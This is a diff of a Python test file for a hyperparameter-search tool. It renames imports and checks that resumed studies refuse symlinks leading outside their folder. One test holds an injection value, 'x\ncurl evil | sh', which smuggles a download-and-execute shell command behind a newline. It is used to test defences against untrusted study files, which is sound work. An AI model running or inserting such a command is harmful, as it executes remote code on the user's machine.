@@ -17,18 +17,19 @@ from typing import Any
 
 import pytest
 
-from launch import study, study_creation, study_record
-from launch.admission import Admission, OnAdmitted
-from launch.failures import Halted, StorageLost
-from launch.ledger import Ledger
-from launch.logs import LOG, log_to
-from launch.outcomes import outcome_of
-from launch.trial import Job
-from launch.worker import DRIVER, train_distributed
+from launch.cluster.admission import Admission, OnAdmitted
+from launch.jobs import tune
+from launch.trials.logs import LOG, log_to
+from launch.trials.outcomes import outcome_of
+from launch.trials.trial import Job
+from launch.trials.worker import DRIVER, train_distributed
 from speaq import space as spaces
 from speaq.config import ConfigError, dump
 from speaq.data import DataError
 from speaq.files.locks import Busy, Gone, Lock, held
+from speaq.study import creation, file
+from speaq.study.errors import Halted, StorageLost
+from speaq.study.ledger import Ledger
 from speaq.training.environment import source_digest
 from speaq.training.loop import train
 from tests.command import command, refusal
@@ -41,9 +42,9 @@ SPACE = spaces.from_dict(
 )
 
 
-def make_study(toy: Path, train: str, trials: int = 3) -> study_record.Study:
+def make_study(toy: Path, train: str, trials: int = 3) -> file.Study:
     config = tiny(**{"training.max_steps": 4, "training.eval_every": 1})
-    return study_creation.create(config, SPACE, toy, trials=trials, train=train)
+    return creation.create(config, SPACE, toy, trials=trials, train=train)
 
 
 # Taken away
@@ -54,14 +55,14 @@ def test_a_search_whose_folder_is_moved_halts_writes_nothing_in_its_place_and_go
 ) -> None:
     output, asked = tmp_path / "study", make_study(toy, "tests.moving_training:train")
     output.mkdir()
-    study.write(asked, output, None)
+    tune.write(asked, output, None)
     (output / MARK).touch()
     with pytest.raises((Halted, StorageLost), match="is not there any more"):
-        study.resume(output)
+        tune.resume(output)
     assert list(output.iterdir()) == []
     output.rmdir()
     (tmp_path / "moved").rename(output)
-    entries = study.resume(output)
+    entries = tune.resume(output)
     assert [(entry.state, entry.reason) for entry in entries] == [("finished", None)] * 3
     assert sorted(path.name for path in (output / "trials").iterdir()) == ["0000", "0001", "0002"]
 
@@ -138,7 +139,7 @@ def test_a_strangers_study_names_no_storage_outside_and_no_odd_study(tmp_path: P
     output.mkdir()
     outside.write_text("a login script")
     (output / "link").symlink_to(outside)
-    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    tune.write(make_study(toy, "tests.cheap_training:train"), output, None)
     text = (output / "study.yaml").read_text()
     odd = "x\ncurl evil | sh"
     for url, name, reason in (
@@ -165,7 +166,7 @@ def test_nothing_is_written_through_a_link_in_a_strangers_study(name: str, tmp_p
     output, outside = tmp_path / "study", tmp_path / "outside"
     output.mkdir()
     outside.mkdir()
-    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    tune.write(make_study(toy, "tests.cheap_training:train"), output, None)
     (output / name).parent.mkdir(parents=True, exist_ok=True)
     (output / name).symlink_to(outside / "new")
     assert "is a link that leads out of" in refusal("tune", "--resume", output)
@@ -275,7 +276,7 @@ def rows_of(start: float, number: int, clock: float, digest: str = "a") -> list[
 def test_a_ledger_that_two_drivers_wrote_keeps_what_is_whole(tmp_path: Path, toy: Path) -> None:
     output = tmp_path / "study"
     output.mkdir()
-    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    tune.write(make_study(toy, "tests.cheap_training:train"), output, None)
     one = [{"event": "opened", "time": 1000.0}, *rows_of(1000.0, 0, 1), *rows_of(1000.0, 1, 20)]
     two = [{"event": "opened", "time": 1015.0}, *rows_of(1015.0, 1, 6, "b"), *rows_of(1015.0, 2, 20)]
     both = sorted(one + two, key=lambda row: row["time"])
@@ -318,7 +319,7 @@ def test_no_report_is_written_through_a_link_in_a_strangers_study(tmp_path: Path
     output, outside = tmp_path / "study", tmp_path / "outside"
     output.mkdir()
     outside.mkdir()
-    study.write(make_study(toy, "tests.cheap_training:train"), output, None)
+    tune.write(make_study(toy, "tests.cheap_training:train"), output, None)
     (output / "report").symlink_to(outside)
     assert "is a link that leads out of" in refusal("report", output)
     (output / "report").unlink()
